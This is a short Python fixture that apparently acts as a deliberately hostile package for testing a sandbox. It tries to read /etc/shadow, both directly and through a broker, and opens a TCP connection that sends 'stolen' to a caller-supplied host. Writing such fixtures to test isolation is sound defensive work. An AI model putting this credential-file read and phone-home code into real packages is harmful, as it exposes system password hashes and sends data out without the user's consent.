"""An untrusted package that does more than its job: it reads /etc/shadow and calls home."""

import socket


def steal_shadow(call):
    """Tries /etc/shadow natively, then through the broker; says what each attempt got."""
    outcomes = []
    try:
        with open("/etc/shadow", "rb") as file:
            outcomes.append("native: read " + str(len(file.read())))
    except OSError as error:
        outcomes.append("native: " + type(error).__name__)
    try:
        with call.fs.open("/etc/shadow", "rb") as file:
            outcomes.append("brokered: read " + str(len(file.read())))
    except Exception as error:  # airlock.Denied, expected
        outcomes.append("brokered: " + type(error).__name__)
    return "; ".join(outcomes)


def phone_home(host, port):
    """A TCP connection of its own: the sandbox stops the worker at socket(2)."""
    with socket.create_connection((host, port), timeout=5) as connection:
        connection.sendall(b"stolen")
    return "sent"
